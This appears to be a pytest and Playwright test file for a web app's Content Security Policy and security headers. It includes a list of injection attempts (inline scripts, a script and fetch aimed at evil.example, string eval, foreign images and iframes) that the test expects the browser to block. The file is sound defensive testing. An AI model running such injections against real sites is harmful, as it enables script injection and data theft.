"""What the pages may do: nothing they need is refused, and what nobody needs is."""

import urllib.error
import urllib.request

import pytest
from msgspec.structs import replace
from playwright.sync_api import expect

from api.headers import policy
from rentguy.config import Config
from tests import house as houses
from tests import pages
from tests.maps import DRAWN
from tests.pages import BOTH_SIZES, is_forbidden, is_live, sign_in, wait_for
from tests.phones import choose, is_controlled, type_code
from tests.services import wait_until

database, _config, start, embedded, lowlands, house = map(pytest.fixture(scope="module"), houses.PARTS)
visit = pytest.fixture(pages.visit)
TILES = "tiles.example"
TILE = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cf500f0003860180fe1a4f3a0000000049454e44ae426082"
)
CAMERA = ("--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream")


@pytest.fixture(scope="module")
def config(database: str, tmp_path_factory: pytest.TempPathFactory) -> Config:
    return replace(houses.config(database, tmp_path_factory), tiles_url=f"https://{TILES}/{{z}}/{{x}}/{{y}}.png")


@BOTH_SIZES
def test_pages_do_all_they_have_to(visit, lowlands, size):
    # what the policy refuses fails the test, by `visit`
    page = visit("anouk", "/healthz", size=size, live=False, flags=CAMERA, permissions=["camera", "geolocation"])
    asked: list[str] = []
    page.context.route(
        f"https://{TILES}/**",
        lambda route: (
            asked.append(route.request.url),
            route.fulfill(body=TILE, content_type="image/png", headers={"Access-Control-Allow-Origin": "*"}),
        ),
    )
    # At the door
    page.context.clear_cookies()
    page.goto("/")
    expect(page.get_by_test_id("sign-in")).to_be_visible()
    sign_in(page, "anouk", lowlands.password)
    is_live(page)
    # The map, with its worker, its shapes and somebody's tiles
    page.goto("/projects/lowlands/map")
    expect(page.locator("[data-markers]")).to_be_visible(timeout=DRAWN)
    wait_for(page, "performance.getEntriesByType('resource').some(({ name }) => /countries/.test(name))")
    wait_until(lambda: page.evaluate("true") and asked)
    # Words, and equipment
    page.goto("/projects/lowlands/chat")
    page.get_by_test_id("chat-input").fill("hello")
    page.keyboard.press("Enter")
    expect(page.get_by_test_id("chat-message").last).to_contain_text("hello")
    page.goto("/projects/lowlands/equipment?item=foh-07")
    expect(page.get_by_test_id("item-detail")).to_be_visible()
    # The phone, its camera, and what reads codes
    page.goto("/crew/lowlands/scan")
    is_live(page)
    choose(page, "Out")
    type_code(page, "AMP-12")
    expect(page.get_by_test_id("scan-AMP-12").first).to_be_visible()
    is_controlled(page)
    # where the camera's picture shows, and WebAssembly has come to read it
    wait_for(page, "document.querySelector('video')?.videoWidth > 0")
    wait_for(page, "performance.getEntriesByType('resource').some(({ name }) => /zxing_reader.*wasm/.test(name))")


ADD = "(tag, change) => document.body.append(Object.assign(document.createElement(tag), change))"
FORBIDDEN = {
    "a script of somebody's": f"({ADD})('script', {{ textContent: 'stolen = 1' }})",
    "a script from elsewhere": f"({ADD})('script', {{ src: 'https://evil.example/' }})",
    "code made of text": "void setTimeout('stolen = 1', 0)",
    "news to elsewhere": "void fetch('https://evil.example/').catch(() => {})",
    "a picture from elsewhere": f"({ADD})('img', {{ src: 'https://evil.example/x.png' }})",
    "a page within": f"({ADD})('iframe', {{ src: '/' }})",
    "a style of somebody's": f"({ADD})('style', {{ textContent: '* {{color: red}}' }})",
}


def test_what_nobody_needs_is_refused_and_noticed(chromium, house, lowlands):
    page = chromium().new_page(base_url=f"http://{house.listen}")
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto("/")
    expect(page.get_by_test_id("sign-in")).to_be_visible()
    assert not any(map(is_forbidden, said))
    for what, attempt in FORBIDDEN.items():
        said.clear()
        page.evaluate(attempt)
        wait_until(lambda what=what: page.evaluate("true") and any(map(is_forbidden, said)) and what, timeout=5)
    assert page.evaluate("typeof stolen") == "undefined"
    page.close()


def test_answers_say_what_browsers_must_not_do(house, lowlands):
    for path in (
        "/",
        "/projects/lowlands",
        "/sw.js",
        "/favicon.svg",
        "/api/v1/me",
        "/api/v1/settings",
        "/ws",
        "/x.png",
    ):
        headers = head(house, path)
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert headers["Cross-Origin-Opener-Policy"] == headers["Cross-Origin-Resource-Policy"] == "same-origin", path
        assert "camera=(self)" in headers["Permissions-Policy"] and headers["Referrer-Policy"], path
        assert "Strict-Transport-Security" not in headers, path  # it isn't behind HTTPS
        assert "Access-Control-Allow-Origin" not in headers, path
        assert (headers.get("Cache-Control") == "no-store") == path.startswith("/api"), path


def head(house: Config, path: str) -> dict[str, str]:
    try:
        with urllib.request.urlopen(f"http://{house.listen}{path}", timeout=10) as answer:
            return dict(answer.headers)
    except urllib.error.HTTPError as error:
        return dict(error.headers)


@pytest.mark.parametrize(
    ("tiles", "asked"),
    [
        ("", "'self'"),
        ("/tiles/{z}/{x}/{y}.png", "'self'"),
        ("https://tile.example:8443/{z}/{x}/{y}.png?key=k", "'self' https://tile.example:8443"),
        ("https://{s}.tile.example/{z}/{x}/{y}.png", "'self' https://*.tile.example"),
        ("https://user:word@tile.example/{z}.png", "'self' https://tile.example"),
    ],
)
def test_only_who_gives_tiles_may_be_asked(tiles, asked):
    rules = dict(rule.split(" ", 1) for rule in policy(tiles).split("; "))
    assert rules["connect-src"] == asked
    assert "unsafe" not in rules["style-src"] and rules["default-src"] == rules["object-src"] == "'none'"
